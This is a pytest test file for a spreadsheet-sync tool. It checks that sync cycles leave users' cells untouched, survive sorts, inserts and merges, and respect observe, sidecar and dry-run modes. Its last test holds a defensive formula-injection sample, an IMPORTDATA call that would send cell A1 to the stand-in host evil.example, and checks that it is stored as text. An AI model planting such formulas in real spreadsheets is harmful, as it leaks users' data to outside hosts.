"""What a cycle leaves in people's workbooks, over real HTTP: nothing of theirs changed, all of ours in its place."""

from collections.abc import Callable, Mapping
from typing import Any

import pytest

from sheetsync.core.graph import Mode
from sheetsync.core.managed import OUR_TAB_ID
from sheetsync.sandbox.batch.table import apply_batch
from sheetsync.sandbox.codec import export_book
from sheetsync.sandbox.decode import decode
from sheetsync.sandbox.model import Workbook
from tests.engine.conftest import Town
from tests.engine.people import (
    BRIEFS,
    LANDING,
    UTM,
    Hand,
    assert_beside_their_rows,
    briefs,
    builder,
    exported_tab,
    our_lines,
    ours_in,
)

BOOKS = (BRIEFS, LANDING, UTM)
OWNER = "lena.marwick@northlight.example"
Json = Mapping[str, Any]


def zielseiten(town: Town) -> Hand:
    return Hand(town.sandbox, LANDING, 1204)


def writes(document: Json) -> int:
    return int(document["requests"]["writes"])


def again(town: Town) -> None:
    """Promise 4: one more cycle writes nothing, and what stands there is right."""
    document = town.reconcile()
    assert (writes(document), document["written"], document["run"]["exit_code"]) == (0, [], 0)
    assert_beside_their_rows(town, complete=True)


def healed(town: Town) -> Json:
    """One cycle after people were at work, whatever the guards think of it, and nothing left to do after it."""
    document = town.reconcile(accept=town.yes_to())
    assert document["run"]["exit_code"] == 0
    assert all(write["state"] == "verified" for write in document["written"])
    assert_beside_their_rows(town, complete=True)
    again(town)
    return document


def overtyped(document: Json) -> dict[str, int]:
    return {write["spreadsheet"]: write["overtyped"] for write in document["written"] if write["overtyped"]}


# ---------------------------------------------------------------- promise 1


def test_nothing_of_theirs_is_changed_but_what_new_columns_right_of_everything_imply(untouched: Town) -> None:
    _furnish(untouched)
    before = {book: untouched.sandbox.state.workbooks[book] for book in BOOKS}
    document = untouched.reconcile()
    assert [write["state"] for write in document["written"]] == ["verified"] * 3
    for book in BOOKS:
        after = untouched.sandbox.export(book)
        assert without_ours(after) == implied(before[book], after), book
    plain = [cell for row, column, cell in briefs(untouched).tab["cells"] if column in (14, 15)]
    assert [set(cell) for cell in plain if cell != {"note": "far right"}] == [{"formula"}] * 2, "nothing is inherited"
    assert untouched.sandbox.shown(BRIEFS, "Q4 briefs", "L26") == "12"
    again(untouched)


def _furnish(town: Town) -> None:
    """All that people hang on their cells: notes, dropdowns, rules, protections, formulas, banners, filters."""
    hand, wide = briefs(town), builder(town)
    dropdown = {"condition": {"type": "ONE_OF_LIST", "values": [{"userEnteredValue": "ok"}]}}
    rule = {
        "ranges": [hand.range(4, None, 0, 15)],
        "booleanRule": {
            "condition": {"type": "CUSTOM_FORMULA", "values": [{"userEnteredValue": '=$K5="Tomas"'}]},
            "format": {"backgroundColor": {"red": 1}},
        },
    }
    theirs = {"range": hand.range(0, 3, 0, 3), "description": "Lena's"}
    note = {"range": hand.range(8, 9, 14, 15), "cell": {"note": "far right"}, "fields": "note"}
    wider = {"range": hand.lines("COLUMNS", 11, 12), "properties": {"pixelSize": 240}, "fields": "pixelSize"}
    hand.act(
        {"setDataValidation": {"range": hand.range(4, 30, 9, 12), "rule": dropdown}},
        {"addConditionalFormatRule": {"rule": rule, "index": 0}},
        {"repeatCell": note},
        {"updateDimensionProperties": wider},
        {"addNamedRange": {"namedRange": {"name": "budgets", "range": hand.range(4, 21, 8, 9)}}},
    )
    Hand(town.sandbox, BRIEFS, 0, OWNER).act({"addProtectedRange": {"protectedRange": theirs}})
    hand.type(25, 11, "=COUNTA(C5:C21)")
    hand.type(26, 11, "=SUM(A5:O5)")
    hand.merge(1, 2, 11, 14)
    hand.format(6, 11, "CURRENCY", "€#,##0.00")
    # A tab of theirs that has our name already.
    hand.act({"addSheet": {"properties": {"sheetId": 7001, "title": "Sheetsync"}}})
    Hand(town.sandbox, BRIEFS, 7001).type(0, 0, "about the sync", "=1+1")
    # The grid ends with the last used column, and a filter lies over all of it.
    wide.resize(40, 12)
    wide.act({"setBasicFilter": {"filter": {"range": wide.range(0, 18, 0, 12)}}})


def without_ours(export: Json) -> Json:
    """A workbook's export less what is ours: our tab, and what stands in the columns with our pin."""
    pins = {(one["sheet_id"], one["index"]) for one in export["metadata"] if one["key"] == "sheetsync.column"}
    rest = {name: value for name, value in export.items() if name not in ("version", "modified", "modified_by")}
    rest["metadata"] = [one for one in export["metadata"] if not one["key"].startswith("sheetsync.")]
    rest["tabs"] = [_theirs(tab, pins) for tab in export["tabs"] if tab["sheet_id"] != OUR_TAB_ID]
    return rest


def _theirs(tab: Json, pins: set[tuple[int, int]]) -> Json:
    def ours(column: int) -> bool:
        return (tab["sheet_id"], column) in pins

    def all_ours(*boxes: Json) -> bool:
        return all(ours(box.get("left", -1)) and box["right"] == box["left"] + 1 for box in boxes)

    return {
        **tab,
        "cells": [cell for cell in tab["cells"] if not ours(cell[1])],
        "rules": [rule for rule in tab["rules"] if not all_ours(*rule["boxes"])],
        "protections": [one for one in tab["protections"] if not all_ours(one["box"])],
    }


def implied(before: Workbook, after: Json) -> Json:
    """The workbook as it was, with empty columns where ours are now, as if a person had inserted them."""
    requests: list[Json] = []
    for tab in before.tabs:
        pins = sorted(one["index"] for one in after["metadata"] if one["sheet_id"] == tab.sheet_id)
        if pins:
            assert pins == list(range(pins[0], pins[0] + len(pins))), "side by side"
            columns = {"sheetId": tab.sheet_id, "dimension": "COLUMNS", "startIndex": pins[0], "endIndex": pins[-1] + 1}
            plain = {"sheetId": tab.sheet_id, "startColumnIndex": pins[0], "endColumnIndex": pins[-1] + 1}
            requests.append({"insertDimension": {"range": columns, "inheritFromBefore": True}})
            requests.append({"updateCells": {"range": plain, "fields": "userEnteredFormat,dataValidation"}})
    if not requests:
        return without_ours(export_book(before))
    decoded = decode({"requests": requests}, "BatchUpdateSpreadsheetRequest")["requests"]
    edited, _ = apply_batch(before, decoded, before.owner, None)  # type: ignore[arg-type]
    return without_ours(export_book(edited))


# ---------------------------------------------------------------- promise 2


Acts = tuple[Callable[[Hand], None], ...]


def ours(hand: Hand) -> Hand:
    """Our tab in the same workbook."""
    return Hand(hand.sandbox, hand.book, OUR_TAB_ID)


def split(hand: Hand) -> None:
    """Vertical merges cannot be sorted, for people either."""
    hand.act({"unmergeCells": {"range": hand.range()}})


# What people do to rows, columns and titles; none of it is a reason for a value to stand beside another row. One act in
# the brief and one in the builder at a time: they are two workbooks, and a cycle looks at both.
IN_THE_BRIEF: Mapping[str, Acts] = {
    "sort without our columns": (split, lambda hand: hand.sort(4, 2, right=12)),
    "sort with our columns": (split, lambda hand: hand.sort(4, 3, descending=True)),
    "insert rows above everything": (lambda hand: hand.insert("ROWS", 0, 2),),
    "insert a row right above the header": (lambda hand: hand.insert("ROWS", 3),),
    "insert rows right under the header": (lambda hand: hand.insert("ROWS", 4, 3),),
    "insert columns left": (lambda hand: hand.insert("COLUMNS", 0, 2),),
    "insert a column before ours": (lambda hand: hand.insert("COLUMNS", 12),),
    "delete a column of theirs": (lambda hand: hand.delete("COLUMNS", 8),),
    "blank a key": (lambda hand: hand.type(8, 2, None),),
    "type another key": (lambda hand: hand.type(8, 2, "NL-2222"),),
    "swap two keys": (lambda hand: hand.type(7, 2, "NL-1003"), lambda hand: hand.type(8, 2, "NL-1002")),
    "merge two keys": (lambda hand: hand.merge(8, 10, 2, 3),),
    "rename their tab": (lambda hand: hand.rename("It's 'Q4' now!"),),
    "rename our tab": (lambda hand: ours(hand).rename("the tool's tab"),),
    "sort our tab": (lambda hand: ours(hand).sort(1, 1, descending=True),),
}
IN_THE_BUILDER: Mapping[str, Acts] = {
    "sort the header along": (lambda hand: hand.sort(0, 3),),
    "sort twice": (lambda hand: hand.sort(1, 3), lambda hand: hand.sort(1, 4, descending=True)),
    "filter": (lambda hand: hand.act({"setBasicFilter": {"filter": {"range": hand.range(0, 18, 0, 15)}}}),),
    "insert rows inside": (lambda hand: hand.insert("ROWS", 7, 2),),
    "insert a column before a key": (lambda hand: hand.insert("COLUMNS", 3),),
    "insert a column among ours": (lambda hand: hand.insert("COLUMNS", 13),),
    "move rows": (lambda hand: hand.move("ROWS", 2, 5, 16),),
    "move a row above the header": (lambda hand: hand.move("ROWS", 5, 6, 0),),
    "move key columns": (lambda hand: hand.move("COLUMNS", 0, 1, 6),),
    "move our columns to the front": (lambda hand: hand.move("COLUMNS", 12, 14, 0),),
    "delete rows": (lambda hand: hand.delete("ROWS", 3, 4),),
    "one key twice": (lambda hand: hand.copy((3, 4, 0, 5), (4, 5, 0, 5)),),
    "a key in error": (lambda hand: hand.type(8, 0, "=1/0"),),
    "rename our tab to a cell": (lambda hand: ours(hand).rename("D3"),),
    "move columns of our tab": (lambda hand: ours(hand).move("COLUMNS", 5, 6, 0),),
}


@pytest.mark.parametrize(("first", "second"), list(zip(IN_THE_BRIEF, IN_THE_BUILDER, strict=True)))
def test_every_value_stays_beside_its_own_row_and_one_cycle_settles_everything(
    town: Town, first: str, second: str
) -> None:
    assert_beside_their_rows(town, complete=True)
    for hand, acts in ((briefs(town), IN_THE_BRIEF[first]), (builder(town), IN_THE_BUILDER[second])):
        for act in acts:
            act(hand)
            assert_beside_their_rows(town)
    document = town.reconcile(accept=town.yes_to())
    assert document["run"]["exit_code"] == 0
    assert overtyped(document) == {}
    assert len(document["written"]) == writes(document), "one write for each workbook at most"
    assert_beside_their_rows(town, complete=True)
    again(town)


def test_people_rearrange_while_our_write_is_on_its_way(untouched: Town) -> None:
    """Between our read and our write, and between the write and our look at it."""
    acts: list[Callable[[], None]] = [
        lambda: builder(untouched).sort(1, 3),
        lambda: builder(untouched).insert("ROWS", 1, 2),
        lambda: builder(untouched).move("ROWS", 4, 6, 12),
        lambda: builder(untouched).insert("COLUMNS", 14),
        lambda: builder(untouched).sort(3, 4, descending=True),
    ]

    def meddle(record: Any) -> None:
        if UTM in record.path and acts:
            acts.pop(0)()
            assert_beside_their_rows(untouched)

    untouched.sandbox.between = meddle
    while acts:
        untouched.reconcile()
        assert_beside_their_rows(untouched)
    untouched.sandbox.between = None
    healed(untouched)


# ---------------------------------------------------------------- what people do to our own cells


def test_literals_in_our_columns_are_replaced_told_and_kept_in_the_history(town: Town) -> None:
    hand, other = briefs(town), builder(town)
    hand.type(8, 12, "checked by me")
    other.copy((3, 4, 0, None), (25, 26, 0, None), "PASTE_VALUES")
    other.type(6, 13, "=IF(1;;)")
    other.type(7, 13, " ")
    assert_beside_their_rows(town)
    pasted = other.grid[25][12:]

    document = healed(town)

    assert overtyped(document) == {BRIEFS: 1, UTM: 5}
    copied = "NL-1003 / email / hero-banner (row 2 of 2)"
    told = {(e.source, e.record, e.field, e.raw) for e in town.world().ledger.history() if e.field.startswith("ss:")}
    assert told == {
        ("briefs", "NL-1003", "ss:status", "checked by me"),
        ("utm", copied, "ss:status", pasted[0]),
        ("utm", copied, "ss:issues", pasted[1]),
        ("utm", copied, "ss:tracking_url", pasted[2]),
        ("utm", "NL-1006 / email / advent-teaser", "ss:issues", "=IF(1;;)"),
        ("utm", "NL-1006 / paid_social / story-1", "ss:issues", " "),
    }
    assert other.grid[25][:12] == other.grid[3][:12], "the copied row itself is theirs"


OUR_TAB_EDITED: Mapping[str, Callable[[Hand], None]] = {
    "a cell typed over": lambda ours: ours.type(2, 3, "fine by me"),
    "a number": lambda ours: ours.type(2, 0, 5),
    "a formula that shows the same": lambda ours: ours.type(1, 3, '="OK"'),
    "an error": lambda ours: ours.type(1, 4, "=1/0"),
    "rows added below": lambda ours: ours.act(
        {"appendDimension": {"sheetId": OUR_TAB_ID, "dimension": "ROWS", "length": 5}},
        {"copyPaste": {"source": ours.range(1, 2), "destination": ours.range(17, 18)}},
    ),
    "a row inserted": lambda ours: ours.insert("ROWS", 3),
    "a row deleted": lambda ours: ours.delete("ROWS", 3),
    "a column inserted": lambda ours: ours.insert("COLUMNS", 0),
    "a column deleted": lambda ours: ours.delete("COLUMNS", 4),
    "cells merged": lambda ours: ours.merge(1, 4, 1, 4),
    "made larger": lambda ours: ours.resize(500, 12),
    "made smaller": lambda ours: ours.resize(3, 4),
    "emptied": lambda ours: ours.act({"updateCells": {"range": ours.range(), "fields": "userEnteredValue"}}),
    "deleted": lambda ours: ours.delete_tab(),
}


EDITS = list(OUR_TAB_EDITED)


@pytest.mark.parametrize(("first", "second"), list(zip(EDITS[::2], EDITS[1::2], strict=True)))
def test_our_tab_is_rewritten_whole_whatever_was_done_to_it(town: Town, first: str, second: str) -> None:
    before = [ours_in(town, book).grid for book in (BRIEFS, UTM)]
    OUR_TAB_EDITED[first](ours_in(town, BRIEFS))
    OUR_TAB_EDITED[second](ours_in(town, UTM))
    healed(town)
    assert [ours_in(town, book).grid for book in (BRIEFS, UTM)] == before
    cells = [cell for book in (BRIEFS, UTM) for _, _, cell in ours_in(town, book).tab["cells"]]
    assert not [cell for cell in cells if "formula" in cell]


OUR_COLUMNS_HIT: Mapping[str, Acts] = {
    "deleted": (lambda hand: hand.delete("COLUMNS", 12, 2),),
    "one deleted": (lambda hand: hand.delete("COLUMNS", 12),),
    "header typed over": (lambda hand: hand.type(3, 12, "my status"),),
    "header emptied": (lambda hand: hand.type(3, 13, None),),
    "header row deleted and put back": (
        lambda hand: hand.insert("ROWS", 4),
        lambda hand: hand.copy((3, 4, 0, 12), (4, 5, 0, 12)),
        lambda hand: hand.delete("ROWS", 3),
    ),
    "header dragged onto a column of theirs": (lambda hand: hand.cut((3, 4, 12, 13), 3, 11),),
    "header dragged down its column": (lambda hand: hand.cut((3, 4, 12, 13), 7, 12),),
    "header row copied below": (lambda hand: hand.copy((3, 4, 0, None), (11, 12, 0, None)),),
    "formula turned into what it shows": (lambda hand: hand.copy((3, 20, 12, 13), (3, 20, 12, 13), "PASTE_VALUES"),),
}


@pytest.mark.parametrize("name", OUR_COLUMNS_HIT)
def test_our_columns_come_back_and_cost_no_cell_of_theirs(town: Town, name: str) -> None:
    for act in OUR_COLUMNS_HIT[name]:
        act(briefs(town))
    before = _their_cells(town)
    healed(town)
    assert _their_cells(town) == before
    head = next(row for row in briefs(town).grid if "Ref" in row)
    assert {"ss:status", "ss:issues"} <= set(head)


def _their_cells(town: Town) -> list[Any]:
    """The cells of the brief in the twelve columns that are theirs."""
    return [cell for cell in briefs(town).tab["cells"] if cell[1] < 12 and "ss:" not in cell[2].get("formula", "")]


def test_a_formula_of_theirs_that_names_one_of_our_headers_is_theirs(town: Town) -> None:
    briefs(town).type(24, 2, '=MATCH("ss:status";4:4;0)')
    briefs(town).type(24, 3, '=COUNTIF(M:M;"CHECK")&" of ""ss:status"""')
    before = briefs(town).tab["cells"]
    town.reconcile()
    again(town)
    assert briefs(town).tab["cells"] == before


def test_a_tab_protected_against_us_gets_no_columns_but_the_rest_is_done(untouched: Town) -> None:
    hand = Hand(untouched.sandbox, BRIEFS, 0, OWNER)
    hand.act({"addProtectedRange": {"protectedRange": {"range": {"sheetId": 0}}}})
    before = briefs(untouched).tab
    document = untouched.reconcile()
    assert document["run"]["exit_code"] == 0
    assert {write["spreadsheet"]: write["state"] for write in document["written"]} == dict.fromkeys(BOOKS, "verified")
    assert briefs(untouched).tab == before
    assert len(our_lines(untouched, BRIEFS)) == 11
    assert writes(untouched.reconcile()) == 0


# ---------------------------------------------------------------- promise 4 and modes


def test_a_second_cycle_only_reads_each_workbook_once(town: Town) -> None:
    sent = len(town.sandbox.requests)
    again(town)
    assert [record.method for record in town.sandbox.requests[sent:] if record.path != "/token"] == ["GET"] * 3


def test_observing_writes_nothing_at_all(untouched: Town) -> None:
    for source in ("briefs", "landing", "utm"):
        untouched.change(source, mode=Mode.OBSERVE)
    before = {book: untouched.sandbox.export(book) for book in BOOKS}
    document = untouched.reconcile()
    assert (writes(document), document["written"]) == (0, [])
    assert {book: untouched.sandbox.export(book) for book in BOOKS} == before
    assert len(untouched.world().ledger.memory().baselines) > 20, "what was agreed is known all the same"


def test_a_dry_run_writes_neither_sheets_nor_ledger(untouched: Town) -> None:
    before = {book: untouched.sandbox.export(book) for book in BOOKS}
    document = untouched.reconcile(dry_run=True)
    assert {write["state"] for write in document["written"]} == {"planned"}
    assert {book: untouched.sandbox.export(book) for book in BOOKS} == before
    assert not untouched.ledger.exists()


def test_a_sidecar_adds_its_tab_and_nothing_else(untouched: Town) -> None:
    for source in ("briefs", "utm"):
        untouched.change(source, mode=Mode.SIDECAR)
    before = {book: untouched.sandbox.export(book) for book in BOOKS}
    untouched.reconcile()
    for book in BOOKS:
        after = untouched.sandbox.export(book)
        assert after["tabs"][:-1] == before[book]["tabs"]
        assert after["tabs"][-1]["sheet_id"] == OUR_TAB_ID
    assert writes(untouched.reconcile()) == 0


def test_from_columns_to_sidecar_our_formulas_go_and_two_blank_columns_stay(town: Town) -> None:
    theirs = _their_cells(town)
    town.change("briefs", mode=Mode.SIDECAR)
    document = town.reconcile()
    assert [write["spreadsheet"] for write in document["written"]] == [BRIEFS]
    assert briefs(town).tab["cells"] == theirs
    assert {line["status"] for line in our_lines(town, BRIEFS).values()} == {"CHECK"}, "rows that are OK say nothing"
    assert writes(town.reconcile()) == 0


def test_from_columns_to_observe_nothing_is_touched_and_back_again_all_is_well(town: Town) -> None:
    before = town.sandbox.export(BRIEFS)
    town.change("briefs", mode=Mode.OBSERVE)
    briefs(town).type(6, 9, "ok")
    assert writes(town.reconcile()) == 0
    assert exported_tab(town.sandbox.export(BRIEFS), OUR_TAB_ID) == exported_tab(before, OUR_TAB_ID)
    town.change("briefs", mode=Mode.COLUMNS)
    healed(town)


def test_from_sidecar_to_columns_the_columns_are_added(town: Town) -> None:
    town.change("landing", mode=Mode.COLUMNS)
    healed(town)
    assert zielseiten(town).grid[2][10:] == ["ss:status", "ss:issues"]


# ---------------------------------------------------------------- rows nobody can address, and keys of all kinds


def test_rows_that_cannot_be_addressed_stand_in_our_tab_with_their_link_and_nowhere_else(town: Town) -> None:
    hand = briefs(town)
    hand.text(6, 2, "   ")
    hand.text(7, 2, "NL-1003")
    hand.text(9, 2, "nl-1005")
    hand.text(13, 2, "NL␟1006")
    hand.type(14, 2, "=1/0")
    hand.type(15, 2, None)
    hand.merge(16, 18, 2, 3)
    healed(town)

    grid = hand.grid
    unaddressed = [6, 7, 8, 9, 10, 13, 14, 15, 17]
    for row in unaddressed:
        assert grid[row][12:] == ["", ""], (row + 1, grid[row])
    assert grid[16][12] != "", "the first row of a merged key has a key of its own"
    lines = [line for line in ours_in(town, BRIEFS).grid[1:] if "key cells are merged (C17:C18)" not in line[4]]
    named = {line[2].rsplit("=", 1)[1]: line[0] for line in lines}
    assert {cell for cell, key in named.items() if not key} == {*(f"C{row + 1}" for row in unaddressed), "C20"}


KEYS = (
    *(
        "*",
        "?",
        "~*",
        "a|b",
        '"',
        "'",
        "''x",
        "=1+1",
        "+49 30",
        "-1",
        "@x",
        "#1",
        "<>",
        ">5",
        "50%",
        "{a}",
        "a;b",
        "a,b",
    ),
    *(" leading", "trailing ", "a  b", "two\nlines", "Köln", "中文", "🎉", "TRUE", "0042", "1e5", "k" * 300),
)


def test_every_kind_of_key_finds_its_own_line(town: Town) -> None:
    """Texts of all kinds, numbers and dates with a format: what people see is the key."""
    hand = builder(town)
    hand.delete("ROWS", 1, 17)
    top, rows = 1, len(KEYS) + 4
    hand.act({"unmergeCells": {"range": hand.range()}})
    for number, key in enumerate(KEYS):
        hand.text(top + number, 0, key)
    end = top + len(KEYS)
    for number, (value, kind, pattern) in enumerate(
        (
            (1001, "NUMBER", "00000"),
            (1001.5, "NUMBER", "#,##0.00"),
            (46353, "DATE", "ddd d mmm"),
            (0.25, "PERCENT", "0%"),
        )
    ):
        hand.type(end + number, 0, value)
        hand.format(end + number, 0, kind, pattern)
    for row in range(top, top + rows):
        hand.text(row, 3, "email")
        hand.text(row, 4, f"slot {row}")
    healed(town)

    beside = hand.grid[top : top + rows]
    lines = our_lines(town, UTM)
    assert len(lines) == rows
    for texts in beside:
        assert texts[12], texts
        assert f"[{lines['␟'.join(['utm', texts[0], 'email', texts[4]]).lower()]['issues'][-10:-1]}]" in texts[13]
    assert [texts[0] for texts in beside[-4:]] == ["01001", "1,001.50", "Fri 27 Nov", "25%"]


def test_a_partners_text_that_looks_like_a_formula_arrives_as_text(town: Town) -> None:
    hand = briefs(town)
    attack = '=IMPORTDATA("https://evil.example/?"&A1)'
    hand.text(6, 2, attack)
    hand.text(6, 1, '+HYPERLINK("https://evil.example")')
    hand.text(7, 4, "=NOW()")
    healed(town)
    ours = ours_in(town, BRIEFS).tab["cells"]
    assert not [cell for cell in ours if "formula" in cell[2]]
    assert any(attack in str(cell[2].get("value")) for cell in ours)
